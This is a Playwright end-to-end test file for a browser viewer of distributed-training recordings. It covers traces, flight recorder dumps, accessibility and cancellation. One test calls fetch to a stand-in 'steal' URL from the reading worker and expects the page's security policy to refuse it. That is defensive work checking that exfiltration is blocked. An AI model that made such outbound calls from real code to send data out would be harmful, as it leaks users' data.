/**
 * Recordings of other runs on the page: the user drops or chooses files, a worker reads them under the page's policy,
 * and the page shows them. The page names the parts that it cannot read, and the run continues in the background.
 */
import { readFileSync } from 'node:fs';
import { gunzipSync, gzipSync } from 'node:zlib';
import type { Locator, Page } from '@playwright/test';
import { placeInBrowser } from '../scripts/tier';
import { axeFindsNothing, axeFindsNothingOnPhone } from './axe';
import { expect, type Playground, TINY, test } from './playground';

const RUN = `${TINY}&data=xor&mode=ddp&world=2&device=cpu`;
const file = (rank: number) =>
  readFileSync(new URL(`../public/examples/recordings/slow-rank/rank${rank}.json.gz`, import.meta.url));
const FILES = [0, 1, 2, 3].map((rank) => ({ name: `rank${rank}.json.gz`, mimeType: '', buffer: file(rank) }));

interface Dropped {
  readonly name: string;
  readonly buffer: Buffer;
}

/** Drops files with any bytes on an element, as from the desktop. */
async function drop(page: Page, selector: string, files: readonly Dropped[]): Promise<void> {
  const transfer = await page.evaluateHandle(
    (given) => {
      const data = new DataTransfer();
      for (const { name, base64 } of given) {
        const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
        data.items.add(new File([bytes], name));
      }
      return data;
    },
    files.map(({ name, buffer }) => ({ name, base64: buffer.toString('base64') })),
  );
  for (const type of ['dragenter', 'dragover', 'drop'])
    await page.dispatchEvent(selector, type, { dataTransfer: transfer });
}

const dialogOf = ({ page }: Playground): Locator => page.getByRole('dialog', { name: 'Recordings' });
const findings = (playground: Playground) => dialogOf(playground).getByRole('list', { name: 'Findings' });
const lanes = (playground: Playground) => dialogOf(playground).getByRole('slider', { name: 'Recorded spans' });

test('dropped traces show which rank is late and why; the run in the background continues', async ({ playground }) => {
  const { page } = playground;
  await playground.open(RUN);
  await playground.iterate(1);
  await drop(page, 'main', FILES);
  await expect(findings(playground)).toContainText('Rank 2 is a straggler');
  await expect(findings(playground)).toContainText('slow_loader');
  const dialog = dialogOf(playground);
  await expect(dialog.getByRole('heading', { name: /torch\.profiler, 4 ranks, gloo/ })).toBeVisible();
  const steps = dialog.getByRole('region', { name: 'Time of each rank' });
  await expect(steps.getByRole('row')).toHaveCount(5);
  await expect(steps.getByRole('row', { name: /^rank 2/ })).toContainText('slow_loader');
  await dialog.getByRole('tab', { name: 'Collectives' }).click();
  await expect(dialog.getByRole('region', { name: 'Collectives by kind and size' })).toContainText(/[MG]B\/s/);
  const saved = page.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Save picture of the recorded timeline' }).click();
  await dialog.getByRole('button', { name: 'SVG, to print and to edit' }).click();
  const picture = await saved;
  expect(picture.suggestedFilename()).toBe('lockstep-recording.svg');
  const svg = readFileSync(await picture.path(), 'utf8');
  expect(svg).toContain('slow_loader');
  expect(svg).toContain('torch.profiler, 4 ranks, gloo. Rank 2');
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await playground.iterate(1);
  await expect.poll(() => playground.number('Step')).toBe(2);
  // The recording is still open the next time.
  await page.getByRole('button', { name: 'Recordings', exact: true }).click();
  await expect(findings(playground)).toContainText('Rank 2 is a straggler');
});

test(
  'by keyboard: from the timeline to a collective and its partners',
  placeInBrowser({ rest: 'the timeline of a run is walked by keyboard in timeline.spec.ts' }),
  async ({ playground }) => {
    const { page } = playground;
    await playground.open(RUN);
    await page.getByRole('button', { name: 'Recordings', exact: true }).press('Enter');
    await dialogOf(playground).getByRole('button', { name: 'Example: a slow rank' }).press('Enter');
    await lanes(playground).focus();
    await page.keyboard.press('ArrowRight');
    await expect(lanes(playground)).toHaveAttribute('aria-valuetext', /^Rank 0: /);
    await page.keyboard.press('ArrowDown');
    await expect(lanes(playground)).toHaveAttribute('aria-valuetext', /^Rank 0: all-reduce; size 273 kB/);
    const selected = dialogOf(playground).getByRole('complementary', { name: 'Selected' });
    await expect(selected.getByRole('row', { name: /^rank 2/ })).toContainText('was the last');
    await page.keyboard.press('f');
    await page.keyboard.press('/');
    await page.keyboard.type('all_reduce rank 2');
    await expect(dialogOf(playground).getByRole('status', { name: 'Matches' })).toHaveText('6 found');
    await page.keyboard.press('Enter');
    await expect(lanes(playground)).toHaveAttribute('aria-valuetext', /^Rank 2: all-reduce/);
    await page.keyboard.press('Escape');
    await lanes(playground).press('Escape');
    await expect(selected).toBeHidden();
    const fold = dialogOf(playground).getByRole('button', { name: 'Threads and streams of rank 2' });
    await fold.press('Enter');
    await expect(fold).toHaveAttribute('aria-expanded', 'true');
  },
);

test(
  'a truncated file is named with the place where it ends, and the other files are shown',
  placeInBrowser({ rest: 'recordings/damaged.test.ts cuts files' }),
  async ({ playground }) => {
    const { page } = playground;
    await playground.open(RUN);
    const text = gunzipSync(file(1));
    const cut = { name: 'rank1.json', buffer: text.subarray(0, Math.floor(text.length / 2)) };
    await drop(
      page,
      'main',
      [FILES[0], cut, FILES[2], FILES[3]].filter((one) => one !== undefined),
    );
    const about = dialogOf(playground).getByRole('region', { name: 'About the files' });
    await expect(about).toContainText(/rank1\.json, (byte|event|line) [\d,]+:/);
    await expect(findings(playground)).toContainText('Rank 2 is a straggler');
  },
);

test(
  'flight recorder dumps show which rank did not call, and where the other ranks wait',
  placeInBrowser({ rest: 'recordings/flight/flight.test.ts reads dumps, and the first test drops files' }),
  async ({ playground }) => {
    const { page } = playground;
    await playground.open(RUN);
    const dump = (rank: number) => `../src/recordings/fixtures/flight/missing-rank_${rank}`;
    const dumps = [0, 1, 2].map((rank) => ({
      name: `missing-rank_${rank}`,
      buffer: readFileSync(new URL(dump(rank), import.meta.url)),
    }));
    const table = readFileSync(new URL('../src/recordings/fixtures/tables/all_reduce.txt', import.meta.url));
    await drop(page, 'main', [...dumps, { name: 'all_reduce.txt', buffer: table }]);
    await expect(findings(playground)).toContainText('rank 2 has not called collective 3');
    const dialog = dialogOf(playground);
    const sideBySide = dialog.getByRole('region', { name: 'Last collectives of group 0' });
    await expect(sideBySide.getByRole('row', { name: /^3/ })).toContainText('not called');
    await axeFindsNothing(page, 'dialog[open]');
    await dialog.getByRole('tab', { name: 'nccl-tests' }).click();
    await expect(dialog.getByRole('figure')).toContainText('bus bandwidth');
    await expect(
      dialog
        .getByRole('region', { name: /^Table of all_reduce/ })
        .getByRole('row')
        .nth(1),
    ).toContainText('GB/s');
    await axeFindsNothing(page, 'dialog[open]');
  },
);

test(
  'every example opens, by its button and by its link',
  placeInBrowser({ rest: 'examples.test.ts holds their files' }),
  async ({ playground }) => {
    await playground.open(`${RUN}&recording=small-kernels`);
    const dialog = dialogOf(playground);
    const heading = dialog.getByRole('heading', { name: /(torch\.profiler|Chrome trace), [24] ranks/ });
    await expect(heading).toContainText('2 ranks');
    await dialog.getByRole('button', { name: 'Example: a slow rank' }).click();
    await expect(heading).toContainText('4 ranks');
    await dialog.getByRole('button', { name: 'Example: exposed communication' }).click();
    await expect(heading).toContainText('2 ranks');
    const steps = dialog.getByRole('region', { name: 'Time of each rank' });
    await expect(steps.getByRole('row')).toHaveCount(3);
    const gpu = dialog.getByRole('heading', { name: /torch\.profiler, 1 rank/ });
    await dialog.getByRole('button', { name: 'Example: a busy GPU' }).click();
    await expect(gpu).toBeVisible();
    await expect(steps.getByRole('row')).toHaveCount(2);
    await dialog.getByRole('button', { name: 'Example: an idle GPU' }).click();
    await expect(findings(playground)).toContainText('Rank 0 is idle longest');
  },
);

test(
  'what if with another bucket cap: modelled times beside the recorded times',
  placeInBrowser({ rest: 'recordings/ models it' }),
  async ({ playground }) => {
    await playground.open(`${RUN}&recording=slow-rank`);
    const dialog = dialogOf(playground);
    await dialog.getByRole('tab', { name: 'What if' }).click();
    const modelled = dialog.getByRole('list', { name: 'Modelled' });
    await expect(modelled).toContainText('without the change the model gives');
    await dialog.getByLabel('bucket cap, MiB').fill('25');
    await dialog.getByLabel('bucket cap, MiB').press('Enter');
    await expect(modelled).toContainText(/Modelled: a step takes .* instead of/);
    await expect(dialog.getByRole('figure')).toContainText('modelled, changed');
    await dialog.getByLabel('bucket cap, MiB').fill('-1');
    await dialog.getByLabel('bucket cap, MiB').press('Enter');
    await expect(dialog.getByText('A number above 0, or nothing.')).toBeVisible();
  },
);

test(
  'a file that is not a recording is refused, with a list of what can be dropped',
  placeInBrowser({ rest: 'recordings/ refuses it in the same words' }),
  async ({ playground }) => {
    const { page } = playground;
    await playground.open(RUN);
    await page.getByRole('button', { name: 'Recordings', exact: true }).click();
    await expect(dialogOf(playground).getByText('Traces of torch.profiler')).toBeVisible();
    await drop(page, 'dialog[open] > div', [{ name: 'shopping.txt', buffer: Buffer.from('milk\nbread\n') }]);
    const about = dialogOf(playground).getByRole('region', { name: 'About the files' });
    await expect(about).toContainText('shopping.txt');
    await expect(dialogOf(playground).getByText('Traces of torch.profiler')).toBeVisible();
    // A report is compared with the run, wherever it is dropped.
    const report = [{ name: 'report.json', buffer: Buffer.from('{"lockstep": "0.1.0", "losses": [1, 2]}') }];
    const compared = page.getByRole('dialog', { name: 'Compare with a report' });
    await drop(page, 'dialog[open] > div', report);
    await expect(compared).toBeVisible();
    await expect(dialogOf(playground)).toBeHidden();
  },
);

/** A trace of one rank that takes seconds to read: the recorded trace, repeated many times. */
function longTrace(): Buffer {
  const trace = JSON.parse(gunzipSync(file(0)).toString()) as { traceEvents: readonly { ts?: number }[] };
  const events = Array.from({ length: 300 }, (_, i) =>
    trace.traceEvents.map((event) => ({ ...event, ts: (event.ts ?? 0) + i * 100_000 })),
  ).flat();
  return gzipSync(JSON.stringify({ ...trace, traceEvents: events }));
}

/**
 * Runs in the page: presses Cancel as soon as a part has been read, and returns the text of the progress bar at that
 * time.
 */
const cancelsAtFirstProgress = () => ({
  said: new Promise<string>((resolve) => {
    const watcher = new MutationObserver(() => {
      const bar = document.querySelector<HTMLProgressElement>('dialog[open] progress[value]');
      const buttons = [...document.querySelectorAll<HTMLButtonElement>('dialog[open] button')];
      const cancel = buttons.find(({ textContent }) => textContent === 'Cancel');
      if (!bar || !cancel) return;
      watcher.disconnect();
      resolve(bar.labels[0]?.textContent ?? bar.ariaLabel ?? '');
      cancel.click();
    });
    watcher.observe(document, { subtree: true, childList: true, attributes: true });
  }),
});

test(
  'the page shows the progress of reading; reading can be cancelled, and the open recording stays',
  placeInBrowser({ rest: 'reading whole files is in the quick tier' }),
  async ({ playground }) => {
    const { page } = playground;
    await playground.open(`${RUN}&recording=slow-rank`);
    await expect(findings(playground)).toContainText('Rank 2 is a straggler');
    const cancelled = await page.evaluateHandle(cancelsAtFirstProgress);
    await dialogOf(playground)
      .getByLabel('Recordings', { exact: true })
      .setInputFiles([{ name: 'long.json.gz', mimeType: '', buffer: longTrace() }]);
    expect(await cancelled.evaluate(({ said }) => said)).toContain('Reading long.json.gz');
    await expect(dialogOf(playground).getByRole('progressbar')).toHaveCount(0);
    await expect(findings(playground)).toContainText('Rank 2 is a straggler');
    // The session's worker, and the worker of the open recording, which answers "What if".
    await expect.poll(() => page.workers().length).toBe(2);
  },
);

test(
  'the page’s policy applies to the worker that reads',
  placeInBrowser({ rest: 'policy.spec.ts holds the policy' }),
  async ({ playground }) => {
    const { page } = playground;
    playground.provokes(/Content Security Policy|violates|Fetch API cannot load|Failed to load resource/);
    await playground.open(RUN);
    const started = page.waitForEvent('worker');
    await drop(page, 'main', [{ name: 'long.json.gz', buffer: longTrace() }]);
    const reader = await started;
    const stolen = await reader.evaluate(() =>
      fetch('https://example.org/steal').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(stolen).toBe('refused');
  },
);

test(
  'axe finds nothing in the view, wide and narrow',
  placeInBrowser({
    rest: 'axe looks at the page in accessibility.spec.ts; these panels are made of the same controls',
  }),
  async ({ playground }) => {
    const { page } = playground;
    await playground.open(`${RUN}&recording=slow-rank`);
    await expect(findings(playground)).toBeVisible();
    for (const tab of await dialogOf(playground).getByRole('tab').all()) {
      await tab.click();
      await axeFindsNothing(page, 'dialog[open]');
    }
    await axeFindsNothingOnPhone(page, 'dialog[open]');
    const wide = await page.locator('dialog[open]').evaluate((dialog) => dialog.scrollWidth - dialog.clientWidth);
    expect(wide).toBeLessThanOrEqual(0);
  },
);
